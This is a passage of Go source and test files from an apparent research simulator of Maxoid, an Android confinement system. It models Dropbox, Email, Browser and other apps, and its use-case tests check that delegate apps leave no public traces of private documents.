	if err := p.ctx.FS().MkdirAll(p.ctx.Cred(), path.Dir(p.path()), 0o700); err != nil {
		return err
	}
	return vfs.WriteFile(p.ctx.FS(), p.ctx.Cred(), p.path(), []byte(b.String()), 0o600)
}

// Get returns a preference value.
func (p *sharedPrefs) Get(key string) string { return p.load()[key] }

// Set stores a preference value.
func (p *sharedPrefs) Set(key, value string) error {
	kv := p.load()
	kv[key] = value
	return p.store(kv)
}

// recentList is an append-only list file in an app's private state (the
// "DB: recent files/scans" column of Table 1). dir selects which private
// area it lives in: the normal data dir or, for Maxoid-aware delegates,
// the persistent private dir.
type recentList struct {
	ctx  *ams.Context
	file string
}

func recents(ctx *ams.Context, dir, name string) *recentList {
	return &recentList{ctx: ctx, file: path.Join(dir, name)}
}

// Add appends an entry.
func (r *recentList) Add(entry string) error {
	if err := r.ctx.FS().MkdirAll(r.ctx.Cred(), path.Dir(r.file), 0o700); err != nil {
		return err
	}
	return vfs.AppendFile(r.ctx.FS(), r.ctx.Cred(), r.file, []byte(entry+"\n"), 0o600)
}

// List returns all entries.
func (r *recentList) List() []string {
	data, err := vfs.ReadFile(r.ctx.FS(), r.ctx.Cred(), r.file)
	if err != nil {
		return nil
	}
	lines := strings.Split(strings.TrimRight(string(data), "\n"), "\n")
	if len(lines) == 1 && lines[0] == "" {
		return nil
	}
	return lines
}

// readTarget opens the intent's data path through the app's view.
func readTarget(ctx *ams.Context, target string) ([]byte, error) {
	return vfs.ReadFile(ctx.FS(), ctx.Cred(), target)
}

// writeSD writes a file to public external storage (apps write 0666 on
// the FAT SD card), creating directories as needed.
func writeSD(ctx *ams.Context, name string, data []byte) error {
	full := path.Join(layout.ExtDir, name)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(full), 0o777); err != nil {
		return err
	}
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), full, data, 0o666)
}
