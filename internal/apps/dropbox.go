package apps

import (
	"bytes"
	"fmt"
	"path"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/vfs"
)

// DropboxPkg is the package name.
const DropboxPkg = "com.dropbox.android"

// DropboxHost is the backend server host.
const DropboxHost = "dropbox.example"

// DropboxDir is the app's file directory on external storage, declared
// private in its Maxoid manifest (§7.1 "Securing Dropbox").
const DropboxDir = "Dropbox"

// Dropbox models the Dropbox client of §2.2: it stores the user's files
// in a directory on external storage so other apps can open them, and
// auto-syncs any change in that directory back to its server — which in
// stock Android gives neither privacy nor integrity. Under Maxoid its
// manifest marks the directory private and VIEW intents as delegate
// invocations, with no code changes.
type Dropbox struct{}

// Package implements ams.App.
func (d *Dropbox) Package() string { return DropboxPkg }

// Manifest returns the install manifest including the Maxoid manifest
// from the paper's case study: the Dropbox directory is private, and
// "any intent from Dropbox with VIEW action is private".
func (d *Dropbox) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: DropboxPkg,
		Maxoid: ams.MaxoidManifest{
			PrivateExtDirs: []string{DropboxDir},
			Invoker: intent.InvokerPolicy{
				Whitelist: true,
				Filters:   []intent.Filter{{Actions: []string{intent.ActionView}}},
			},
		},
	}
}

// OnStart is a no-op; the app is driven by its methods.
func (d *Dropbox) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }

// localPath returns the on-device path of a synced file.
func (d *Dropbox) localPath(name string) string {
	return path.Join(layout.ExtDir, DropboxDir, name)
}

// Fetch downloads a file from the backend into the Dropbox directory.
func (d *Dropbox) Fetch(ctx *ams.Context, name string) error {
	conn, err := ctx.Connect(DropboxHost)
	if err != nil {
		return err
	}
	resp, err := conn.Do("/files/"+name, nil)
	if err != nil {
		return err
	}
	if resp.Status != 200 {
		return fmt.Errorf("dropbox: fetch %s: status %d", name, resp.Status)
	}
	local := d.localPath(name)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(local), 0o777); err != nil {
		return err
	}
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), local, resp.Body, 0o666)
}

// OpenFile invokes another app on a synced file (the user clicking it).
// Under Maxoid the manifest's VIEW filter makes the invoked app a
// delegate; in stock Android it would run normally.
func (d *Dropbox) OpenFile(ctx *ams.Context, name string, extras map[string]string) (*ams.Context, error) {
	return ctx.StartActivity(intent.Intent{
		Action: intent.ActionView,
		Data:   d.localPath(name),
		Extras: extras,
	})
}

// SyncAll uploads every file in the Dropbox directory whose content
// differs from the server — the automatic sync that, in stock Android,
// pushes even unintended modifications (§2.2 case study I).
func (d *Dropbox) SyncAll(ctx *ams.Context) (uploaded []string, err error) {
	conn, err := ctx.Connect(DropboxHost)
	if err != nil {
		return nil, err
	}
	dir := path.Join(layout.ExtDir, DropboxDir)
	entries, err := ctx.FS().ReadDir(ctx.Cred(), dir)
	if err != nil {
		return nil, err
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		local, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), path.Join(dir, e.Name))
		if err != nil {
			return uploaded, err
		}
		remote, err := conn.Do("/files/"+e.Name, nil)
		if err != nil {
			return uploaded, err
		}
		if remote.Status == 200 && bytes.Equal(remote.Body, local) {
			continue
		}
		if _, err := conn.Do("/files/"+e.Name, local); err != nil {
			return uploaded, err
		}
		uploaded = append(uploaded, e.Name)
	}
	return uploaded, nil
}

// CommitFromVol uploads an edited version from Vol(Dropbox) — the
// manual commit the paper requires of the user when Dropbox itself is
// unmodified: "we require the user to manually upload the modified
// file if it is desired, from EXTDIR/tmp".
func (d *Dropbox) CommitFromVol(ctx *ams.Context, name string) error {
	volPath := path.Join(layout.ExtTmpDir, DropboxDir, name)
	data, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), volPath)
	if err != nil {
		return err
	}
	conn, err := ctx.Connect(DropboxHost)
	if err != nil {
		return err
	}
	if _, err := conn.Do("/files/"+name, data); err != nil {
		return err
	}
	// Also refresh the local copy.
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), d.localPath(name), data, 0o666)
}
