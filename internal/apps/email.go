package apps

import (
	"path"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/provider"
	"maxoid/internal/provider/downloads"
	"maxoid/internal/vfs"
)

// EmailPkg is the package name.
const EmailPkg = "com.android.email"

// Email models Android's built-in Email app (§2.2 case study III):
// attachments are saved in private internal storage; the VIEW button
// invokes another app on the attachment; the SAVE button explicitly
// exports it to external storage and the Downloads provider.
//
// Under Maxoid, a filter in the Maxoid manifest marks VIEW intents
// private, so viewers run as delegates with no code change to Email.
type Email struct{}

// Package implements ams.App.
func (e *Email) Package() string { return EmailPkg }

// Manifest returns the install manifest with the §7.1 Maxoid filter:
// "VIEW intents are private".
func (e *Email) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: EmailPkg,
		Maxoid: ams.MaxoidManifest{
			Invoker: intent.InvokerPolicy{
				Whitelist: true,
				Filters:   []intent.Filter{{Actions: []string{intent.ActionView}}},
			},
		},
	}
}

// OnStart is a no-op; the app is driven by its methods.
func (e *Email) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }

// attachmentPath is the internal private path of an attachment.
func (e *Email) attachmentPath(ctx *ams.Context, name string) string {
	return path.Join(ctx.DataDir(), "attachments", name)
}

// Receive stores an incoming attachment in private internal storage.
func (e *Email) Receive(ctx *ams.Context, name string, content []byte) error {
	p := e.attachmentPath(ctx, name)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(p), 0o700); err != nil {
		return err
	}
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), p, content, 0o600)
}

// ViewAttachment is the VIEW button: it invokes a handler app on the
// private attachment with a one-time read grant. The Maxoid manifest
// turns this into a delegate invocation.
func (e *Email) ViewAttachment(ctx *ams.Context, name string, extras map[string]string) (*ams.Context, error) {
	return ctx.StartActivity(intent.Intent{
		Action: intent.ActionView,
		Data:   e.attachmentPath(ctx, name),
		Flags:  intent.FlagGrantReadURIPermission,
		Extras: extras,
	})
}

// SaveAttachment is the SAVE button: the user intentionally exports the
// attachment to external storage and registers it with the Downloads
// provider — an explicit declassification that Maxoid permits.
func (e *Email) SaveAttachment(ctx *ams.Context, name string) (string, error) {
	data, err := vfs.ReadFile(ctx.FS(), ctx.Cred(), e.attachmentPath(ctx, name))
	if err != nil {
		return "", err
	}
	dest := path.Join(downloads.DownloadDir, name)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(dest), 0o777); err != nil {
		return "", err
	}
	if err := vfs.WriteFile(ctx.FS(), ctx.Cred(), dest, data, 0o666); err != nil {
		return "", err
	}
	// Metadata goes to the Downloads provider, as the stock app does.
	_, err = ctx.Resolver().Insert(downloads.DownloadsURI, provider.Values{
		"uri": "local/attachment/" + name, "title": name, "_data": dest,
	})
	if err != nil {
		return "", err
	}
	return dest, nil
}
