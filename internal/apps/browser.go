package apps

import (
	"fmt"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/provider/downloads"
)

// BrowserPkg is the package name.
const BrowserPkg = "com.android.browser"

// Browser models Android's built-in Browser with incognito mode (§2.2
// case study IV). Stock incognito does not cover downloads: a file
// downloaded from an incognito tab lands in public external storage and
// the Downloads provider. The paper's enhancement is a one-line change:
// downloads from an incognito tab pass the volatile flag through the
// extended DownloadManager API, putting the file and its record in
// Vol(Browser) (§7.1 "Enhancing Browser's incognito mode").
type Browser struct{}

// Package implements ams.App.
func (b *Browser) Package() string { return BrowserPkg }

// Manifest returns the install manifest.
func (b *Browser) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: BrowserPkg,
		Filters: []intent.Filter{{Schemes: []string{"http", "https"}}},
	}
}

// OnStart opens a URL; the "incognito" extra selects the tab type and
// "download" makes it a download navigation.
func (b *Browser) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Extra("download") == "" {
		return nil
	}
	_, _, err := b.Download(ctx, in.Data, in.Extra("incognito") == "1")
	return err
}

// Download fetches a URL through the DownloadManager. This is the
// paper's patched code path: the single added line is setting Volatile
// for incognito tabs.
func (b *Browser) Download(ctx *ams.Context, url string, incognito bool) (id int64, clientPath string, err error) {
	dm := downloads.NewManager(ctx.Resolver())
	id, err = dm.Enqueue(downloads.Request{
		URL:      url,
		Title:    url,
		Volatile: incognito, // the 1-line Maxoid change
	})
	if err != nil {
		return 0, "", err
	}
	status, clientPath, err := dm.Wait(id)
	if err != nil {
		return 0, "", err
	}
	if status != downloads.StatusSuccess {
		return id, clientPath, fmt.Errorf("browser: download failed with status %d", status)
	}
	return id, clientPath, nil
}

// OpenDownload is the user clicking a download-complete notification:
// for incognito downloads the handler app is started as a delegate of
// Browser, for normal downloads it runs normally.
func (b *Browser) OpenDownload(ctx *ams.Context, clientPath string, incognito bool) (*ams.Context, error) {
	in := intent.Intent{Action: intent.ActionView, Data: clientPath}
	if incognito {
		in.Flags = intent.FlagDelegate
	}
	return ctx.StartActivity(in)
}
