package apps

import (
	"errors"
	"path"

	"maxoid/internal/ams"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/vfs"
)

// WrapperPkg is the package name of the wrapper app.
const WrapperPkg = "org.maxoid.wrapper"

// Wrapper is the paper's wrapper app (§7.1): "an app which does nothing
// but holding sensitive documents. It can be used as an initiator to
// force 'real apps' into a system-wide incognito mode by clearing the
// volatile state after use."
type Wrapper struct{}

// Package implements ams.App.
func (w *Wrapper) Package() string { return WrapperPkg }

// Manifest returns the install manifest: every outgoing intent invokes
// a delegate (empty-filter whitelist matches everything).
func (w *Wrapper) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: WrapperPkg,
		Maxoid: ams.MaxoidManifest{
			Invoker: intent.InvokerPolicy{
				Whitelist: true,
				Filters:   []intent.Filter{{}}, // match all
			},
		},
	}
}

// OnStart is a no-op; the app is driven by its methods.
func (w *Wrapper) OnStart(ctx *ams.Context, in intent.Intent) error { return nil }

// docPath is where a held document lives in internal private storage.
func (w *Wrapper) docPath(ctx *ams.Context, name string) string {
	return path.Join(ctx.DataDir(), "docs", name)
}

// Hold stores a sensitive document inside the wrapper.
func (w *Wrapper) Hold(ctx *ams.Context, name string, content []byte) error {
	p := w.docPath(ctx, name)
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(p), 0o700); err != nil {
		return err
	}
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), p, content, 0o600)
}

// OpenWith opens a held document with whatever app handles it; the
// manifest forces the handler into the wrapper's confinement domain.
func (w *Wrapper) OpenWith(ctx *ams.Context, name string, extras map[string]string) (*ams.Context, error) {
	return ctx.StartActivity(intent.Intent{
		Action: intent.ActionView,
		Data:   w.docPath(ctx, name),
		Extras: extras,
	})
}

// NetApp models the three data-processing apps (DocuSign, EasySign,
// ThinkTI Document Converter) that cannot work as delegates because
// they must reach their servers (§7.1): its open path uploads the
// document for processing, which fails with ENETUNREACH when confined.
type NetApp struct{}

// NetAppPkg is the package name.
const NetAppPkg = "com.docusign.ink"

// NetAppHost is the processing backend.
const NetAppHost = "sign.example"

// Package implements ams.App.
func (n *NetApp) Package() string { return NetAppPkg }

// Manifest returns the install manifest.
func (n *NetApp) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: NetAppPkg,
		Filters: []intent.Filter{{
			Actions:  []string{intent.ActionView},
			Suffixes: []string{".sign"},
		}},
	}
}

// OnStart uploads the document to the signing service.
func (n *NetApp) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Data == "" {
		return nil
	}
	data, err := readTarget(ctx, in.Data)
	if err != nil {
		return err
	}
	conn, err := ctx.Connect(NetAppHost)
	if err != nil {
		return err // ENETUNREACH as a delegate: the app cannot work
	}
	_, err = conn.Do("/sign", data)
	return err
}

// IsNetworkFailure reports whether an error is the delegate network cut.
func IsNetworkFailure(err error) bool {
	return errors.Is(err, kernel.ErrNetUnreachable)
}
