package apps

import (
	"maxoid/internal/ams"
	"maxoid/internal/core"
	"maxoid/internal/netstack"
)

// Suite bundles all simulated apps installed on one device, plus the
// backend servers they talk to. Tests, examples, the Table 1 auditor,
// and the benchmarks all drive the system through a Suite.
type Suite struct {
	PDFViewer   *PDFViewer
	OfficeSuite *OfficeSuite
	VPlayer     *VPlayer
	EBookDroid  *EBookDroid
	QRScanner   *QRScanner
	CamScanner  *CamScanner
	CameraMX    *CameraMX
	Dropbox     *Dropbox
	Email       *Email
	Browser     *Browser
	Wrapper     *Wrapper
	NetApp      *NetApp

	DropboxServer *netstack.StaticFileServer
	WebServer     *netstack.StaticFileServer
	SignServer    *netstack.StaticFileServer
}

// InstallSuite installs every app with its manifest and registers the
// backend servers on the device's network.
func InstallSuite(s *core.System) (*Suite, error) {
	suite := &Suite{
		PDFViewer:   &PDFViewer{},
		OfficeSuite: &OfficeSuite{},
		VPlayer:     &VPlayer{},
		EBookDroid:  &EBookDroid{},
		QRScanner:   &QRScanner{},
		CamScanner:  &CamScanner{},
		CameraMX:    &CameraMX{},
		Dropbox:     &Dropbox{},
		Email:       &Email{},
		Browser:     &Browser{},
		Wrapper:     &Wrapper{},
		NetApp:      &NetApp{},

		DropboxServer: netstack.NewStaticFileServer(),
		WebServer:     netstack.NewStaticFileServer(),
		SignServer:    netstack.NewStaticFileServer(),
	}
	type installable interface {
		ams.App
		Manifest() ams.Manifest
	}
	for _, app := range []installable{
		suite.PDFViewer, suite.OfficeSuite, suite.VPlayer, suite.EBookDroid,
		suite.QRScanner, suite.CamScanner, suite.CameraMX, suite.Dropbox,
		suite.Email, suite.Browser, suite.Wrapper, suite.NetApp,
	} {
		if err := s.Install(app, app.Manifest()); err != nil {
			return nil, err
		}
	}

	s.Net.Register(DropboxHost, suite.DropboxServer)
	s.Net.Register("web.example", suite.WebServer)
	s.Net.Register(NetAppHost, suite.SignServer)
	return suite, nil
}
