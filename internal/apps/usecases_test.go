package apps

import (
	"strings"
	"testing"

	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/layout"
	"maxoid/internal/provider/downloads"
	"maxoid/internal/vfs"
)

// newDevice boots a device with the full app suite installed.
func newDevice(t *testing.T) (*core.System, *Suite) {
	t.Helper()
	s, err := core.Boot(core.Options{})
	if err != nil {
		t.Fatal(err)
	}
	suite, err := InstallSuite(s)
	if err != nil {
		t.Fatal(err)
	}
	return s, suite
}

// TestUseCaseDropbox reproduces §7.1 "Securing Dropbox": the Maxoid
// manifest makes the Dropbox dir private and VIEW invocations delegate;
// an editor's changes stay in Vol(Dropbox) until the user commits, and
// auto-sync never uploads unintended modifications.
func TestUseCaseDropbox(t *testing.T) {
	s, suite := newDevice(t)
	suite.DropboxServer.Put("/files/notes.txt", []byte("cloud-v1"))

	dctx, err := s.Launch(DropboxPkg, intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	if err := suite.Dropbox.Fetch(dctx, "notes.txt"); err != nil {
		t.Fatal(err)
	}

	// Privacy: other apps cannot see files in the private Dropbox dir.
	bctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	if vfs.Exists(bctx.FS(), bctx.Cred(), layout.ExtDir+"/Dropbox/notes.txt") {
		t.Error("Dropbox private dir visible to another app")
	}

	// The user clicks the file: the editor runs as Dropbox's delegate.
	ectx, err := suite.Dropbox.OpenFile(dctx, "notes.txt", map[string]string{"append": "-EDIT"})
	if err != nil {
		t.Fatal(err)
	}
	if !ectx.IsDelegate() || ectx.Initiator() != DropboxPkg {
		t.Fatalf("editor context: %v", ectx.Task())
	}

	// The editor edited the file (and left Table 1 side effects), but
	// the original is intact and auto-sync uploads nothing.
	local, _ := vfs.ReadFile(dctx.FS(), dctx.Cred(), layout.ExtDir+"/Dropbox/notes.txt")
	if string(local) != "cloud-v1" {
		t.Errorf("original mutated: %q", local)
	}
	uploaded, err := suite.Dropbox.SyncAll(dctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(uploaded) != 0 {
		t.Errorf("auto-sync uploaded delegate edits: %v", uploaded)
	}

	// Dropbox sees the edit under EXTDIR/tmp and the user commits it.
	vol, err := vfs.ReadFile(dctx.FS(), dctx.Cred(), layout.ExtTmpDir+"/Dropbox/notes.txt")
	if err != nil || string(vol) != "cloud-v1-EDIT" {
		t.Fatalf("volatile edit: %q, %v", vol, err)
	}
	if err := suite.Dropbox.CommitFromVol(dctx, "notes.txt"); err != nil {
		t.Fatal(err)
	}
	remote, _ := suite.DropboxServer.Get("/files/notes.txt")
	if string(remote) != "cloud-v1-EDIT" {
		t.Errorf("server after commit: %q", remote)
	}

	// Then the user clears Vol(Dropbox) to drop the editor's side
	// effects (thumbnails, SD-card DB entries).
	if err := s.ClearVol(DropboxPkg); err != nil {
		t.Fatal(err)
	}
	if vols, _ := s.ListVolatileFiles(DropboxPkg); len(vols) != 0 {
		t.Errorf("volatile leftovers: %v", vols)
	}
}

// TestUseCaseEmailAttachment reproduces §7.1 "Securing Email
// attachments": VIEW invocations are private; the viewer's traces stay
// in Vol(Email); SAVE remains an explicit public export.
func TestUseCaseEmailAttachment(t *testing.T) {
	s, suite := newDevice(t)
	ectx, _ := s.Launch(EmailPkg, intent.Intent{})
	secret := []byte("attachment-secret-contents")
	if err := suite.Email.Receive(ectx, "contract.pdf", secret); err != nil {
		t.Fatal(err)
	}

	vctx, err := suite.Email.ViewAttachment(ectx, "contract.pdf", map[string]string{"from_content_uri": "1"})
	if err != nil {
		t.Fatal(err)
	}
	if !vctx.IsDelegate() || vctx.Initiator() != EmailPkg {
		t.Fatalf("viewer context: %v", vctx.Task())
	}
	// Adobe Reader's SD-card copy (Table 1) was confined to Vol(Email).
	xctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	if vfs.Exists(xctx.FS(), xctx.Cred(), layout.ExtDir+"/AdobeReader/contract.pdf") {
		t.Error("attachment copy leaked to public SD card")
	}
	vol := layout.ExtTmpDir + "/AdobeReader/contract.pdf"
	if data, err := vfs.ReadFile(ectx.FS(), ectx.Cred(), vol); err != nil || string(data) != string(secret) {
		t.Errorf("volatile copy: %v, %v", data, err)
	}
	// The viewer's recent-files list is in nPriv(viewer^email), not in
	// the viewer's real private state.
	s.AM.StopInstance(PDFViewerPkg, EmailPkg)
	nctx, _ := s.Launch(PDFViewerPkg, intent.Intent{})
	if got := suite.PDFViewer.RecentFiles(nctx); len(got) != 0 {
		t.Errorf("recent files leaked into normal private state: %v", got)
	}

	// SAVE is an explicit declassification: file + Downloads record go
	// public.
	dest, err := suite.Email.SaveAttachment(ectx, "contract.pdf")
	if err != nil {
		t.Fatal(err)
	}
	if data, err := vfs.ReadFile(xctx.FS(), xctx.Cred(), dest); err != nil || string(data) != string(secret) {
		t.Errorf("saved attachment: %v, %v", data, err)
	}
	rows, err := xctx.Resolver().Query(downloads.DownloadsURI, []string{"title"}, "", "")
	if err != nil || len(rows.Data) != 1 {
		t.Errorf("public download record: %v, %v", rows, err)
	}
}

// TestUseCaseIncognitoDownload reproduces §7.1 "Enhancing Browser's
// incognito mode": a volatile download plus delegate viewing leaves no
// public trace, and Clear-Vol + Clear-Priv erase everything.
func TestUseCaseIncognitoDownload(t *testing.T) {
	s, suite := newDevice(t)
	suite.WebServer.Put("/secret/report.pdf", []byte("incognito-report"))

	bctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	_, clientPath, err := suite.Browser.Download(bctx, "web.example/secret/report.pdf", true)
	if err != nil {
		t.Fatal(err)
	}

	// No public trace: file invisible to other apps, no public record.
	xctx, _ := s.Launch(EmailPkg, intent.Intent{})
	if vfs.Exists(xctx.FS(), xctx.Cred(), clientPath) {
		t.Error("incognito download visible publicly")
	}
	rows, _ := xctx.Resolver().Query(downloads.DownloadsURI, nil, "", "")
	if len(rows.Data) != 0 {
		t.Errorf("incognito record public: %v", rows.Data)
	}

	// The notification opens the file in a delegate viewer.
	vctx, err := suite.Browser.OpenDownload(bctx, clientPath, true)
	if err != nil {
		t.Fatal(err)
	}
	if vctx.Initiator() != BrowserPkg {
		t.Fatalf("viewer context: %v", vctx.Task())
	}
	// The viewer could read it through Pub(x^Browser).
	if data, err := vfs.ReadFile(vctx.FS(), vctx.Cred(), clientPath); err != nil || string(data) != "incognito-report" {
		t.Errorf("delegate read of volatile download: %q, %v", data, err)
	}

	// Clearing wipes the download, its record, and all delegate traces.
	if err := s.ClearVol(BrowserPkg); err != nil {
		t.Fatal(err)
	}
	if err := s.ClearPriv(BrowserPkg); err != nil {
		t.Fatal(err)
	}
	if n, _ := s.VolatileRecords("downloads", "my_downloads", BrowserPkg); n != 0 {
		t.Errorf("volatile download records: %d", n)
	}
	if vols, _ := s.ListVolatileFiles(BrowserPkg); len(vols) != 0 {
		t.Errorf("volatile files: %v", vols)
	}
	// A fresh delegate viewer has no recent-files memory of the report.
	vctx2, _ := s.LaunchAsDelegate(PDFViewerPkg, BrowserPkg, intent.Intent{})
	if got := suite.PDFViewer.RecentFiles(vctx2); len(got) != 0 {
		t.Errorf("viewer history survived Clear-Priv: %v", got)
	}
}

// TestUseCaseIncognitoQRScanner extends incognito to an input app: the
// user starts the QR scanner as the Browser's delegate from the
// launcher, so the scan history is erasable too (§2.2 IV / §7.1).
func TestUseCaseIncognitoQRScanner(t *testing.T) {
	s, suite := newDevice(t)

	// A captured frame exists on the public SD card.
	bctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	if err := bctx.FS().MkdirAll(bctx.Cred(), layout.ExtDir+"/DCIM", 0o777); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(bctx.FS(), bctx.Cred(), layout.ExtDir+"/DCIM/frame.raw", []byte("http://secret.example/page"), 0o666); err != nil {
		t.Fatal(err)
	}

	qctx, err := s.LaunchAsDelegate(QRScannerPkg, BrowserPkg, intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	url, err := suite.QRScanner.Scan(qctx, layout.ExtDir+"/DCIM/frame.raw")
	if err != nil || url != "http://secret.example/page" {
		t.Fatalf("scan: %q, %v", url, err)
	}
	// The scan history lives in nPriv(scanner^browser); the scanner run
	// normally has no trace of it.
	s.AM.StopInstance(QRScannerPkg, BrowserPkg)
	nctx, _ := s.Launch(QRScannerPkg, intent.Intent{})
	if got := suite.QRScanner.RecentScans(nctx); len(got) != 0 {
		t.Errorf("scan history leaked: %v", got)
	}
	// Clear-Priv erases it for good.
	if err := s.ClearPriv(BrowserPkg); err != nil {
		t.Fatal(err)
	}
	qctx2, _ := s.LaunchAsDelegate(QRScannerPkg, BrowserPkg, intent.Intent{})
	if got := suite.QRScanner.RecentScans(qctx2); len(got) != 0 {
		t.Errorf("scan history survived Clear-Priv: %v", got)
	}
}

// TestUseCaseWrapperApp reproduces §7.1 "Wrapper app": system-wide
// incognito by funneling every invocation through a do-nothing holder.
func TestUseCaseWrapperApp(t *testing.T) {
	s, suite := newDevice(t)
	wctx, _ := s.Launch(WrapperPkg, intent.Intent{})
	if err := suite.Wrapper.Hold(wctx, "taxes.pdf", []byte("tax-return-2014")); err != nil {
		t.Fatal(err)
	}
	vctx, err := suite.Wrapper.OpenWith(wctx, "taxes.pdf", map[string]string{"from_content_uri": "1"})
	if err != nil {
		t.Fatal(err)
	}
	if vctx.Initiator() != WrapperPkg {
		t.Fatalf("viewer context: %v", vctx.Task())
	}
	// After use, clearing both stores wipes every trace system-wide.
	if err := s.ClearVol(WrapperPkg); err != nil {
		t.Fatal(err)
	}
	if err := s.ClearPriv(WrapperPkg); err != nil {
		t.Fatal(err)
	}
	xctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	if vfs.Exists(xctx.FS(), xctx.Cred(), layout.ExtDir+"/AdobeReader/taxes.pdf") {
		t.Error("wrapper doc copy leaked")
	}
	vctx2, _ := s.LaunchAsDelegate(PDFViewerPkg, WrapperPkg, intent.Intent{})
	if got := suite.PDFViewer.RecentFiles(vctx2); len(got) != 0 {
		t.Errorf("trace survived wipe: %v", got)
	}
}

// TestUseCaseEBookDroidPPriv reproduces §7.1 "Using delegates'
// persistent private state": the patched viewer keeps a per-initiator
// recent list across delegate invocations, even after nPriv re-forks,
// and it is invisible outside that initiator's domain.
func TestUseCaseEBookDroidPPriv(t *testing.T) {
	s, suite := newDevice(t)
	ectx, _ := s.Launch(EmailPkg, intent.Intent{})
	if err := suite.Email.Receive(ectx, "book.epub", []byte("chapter one")); err != nil {
		t.Fatal(err)
	}

	// First delegate run: opens the attachment, recents go to pPriv.
	dctx, err := suite.Email.ViewAttachment(ectx, "book.epub", nil)
	if err != nil {
		t.Fatal(err)
	}
	if dctx.Package() != EBookDroidPkg {
		t.Fatalf("resolved to %s, want EBookDroid", dctx.Package())
	}
	s.AM.StopInstance(EBookDroidPkg, EmailPkg)

	// The viewer runs normally and updates its own private state, which
	// will force an nPriv re-fork for the next delegate run.
	nctx, _ := s.Launch(EBookDroidPkg, intent.Intent{})
	if err := suite.EBookDroid.Open(nctx, layout.ExtDir+"/pub.epub"); err == nil {
		// pub.epub doesn't exist; create and open for real.
		t.Fatal("expected missing file error")
	}
	if err := vfs.WriteFile(nctx.FS(), nctx.Cred(), layout.ExtDir+"/pub.epub", []byte("public book"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := suite.EBookDroid.Open(nctx, layout.ExtDir+"/pub.epub"); err != nil {
		t.Fatal(err)
	}
	// Normal run does not see the delegate's history (S1).
	for _, r := range suite.EBookDroid.RecentFiles(nctx) {
		if strings.Contains(r, "book.epub") {
			t.Errorf("delegate history visible normally: %v", r)
		}
	}
	s.AM.StopInstance(EBookDroidPkg, "")

	// Second delegate run: nPriv was re-forked (it now contains the
	// public book entry), but pPriv still lists the attachment.
	dctx2, err := suite.Email.ViewAttachment(ectx, "book.epub", nil)
	if err != nil {
		t.Fatal(err)
	}
	got := suite.EBookDroid.RecentFiles(dctx2)
	foundAttachment := false
	for _, r := range got {
		if strings.Contains(r, "book.epub") {
			foundAttachment = true
		}
	}
	if !foundAttachment {
		t.Errorf("pPriv recent list lost the attachment: %v", got)
	}
}

// TestUseCaseNetworkDependentDelegate covers the paper's finding that 3
// of 77 apps cannot work as delegates due to the network cut.
func TestUseCaseNetworkDependentDelegate(t *testing.T) {
	s, suite := newDevice(t)
	_ = suite
	ectx, _ := s.Launch(EmailPkg, intent.Intent{})
	if err := suite.Email.Receive(ectx, "deal.sign", []byte("sign me")); err != nil {
		t.Fatal(err)
	}
	_, err := suite.Email.ViewAttachment(ectx, "deal.sign", nil)
	if !IsNetworkFailure(err) {
		t.Errorf("network-dependent delegate: %v, want ENETUNREACH", err)
	}
	// The same app works when run normally.
	nctx, _ := s.Launch(NetAppPkg, intent.Intent{})
	if err := vfs.WriteFile(nctx.FS(), nctx.Cred(), layout.ExtDir+"/public.sign", []byte("x"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := suite.NetApp.OnStart(nctx, intent.Intent{Action: intent.ActionView, Data: layout.ExtDir + "/public.sign"}); err != nil {
		t.Errorf("normal run: %v", err)
	}
}

// TestUseCaseCameraForDropbox: the user starts the camera as Dropbox's
// delegate from the launcher and takes a private photo (§7.1).
func TestUseCaseCameraForDropbox(t *testing.T) {
	s, suite := newDevice(t)
	cctx, err := s.LaunchAsDelegate(CameraMXPkg, DropboxPkg, intent.Intent{})
	if err != nil {
		t.Fatal(err)
	}
	photo, err := suite.CameraMX.TakePhoto(cctx, "private_shot", []byte("jpeg-sensor-data"))
	if err != nil {
		t.Fatal(err)
	}
	// The photo and its Media entry are confined to Vol(Dropbox).
	xctx, _ := s.Launch(BrowserPkg, intent.Intent{})
	if vfs.Exists(xctx.FS(), xctx.Cred(), photo) {
		t.Error("private photo on public SD card")
	}
	rows, _ := xctx.Resolver().Query("content://media/images", nil, "", "")
	if len(rows.Data) != 0 {
		t.Errorf("private photo in public Media: %v", rows.Data)
	}
	if n, _ := s.VolatileRecords("media", "files", DropboxPkg); n != 1 {
		t.Errorf("volatile media records: %d", n)
	}
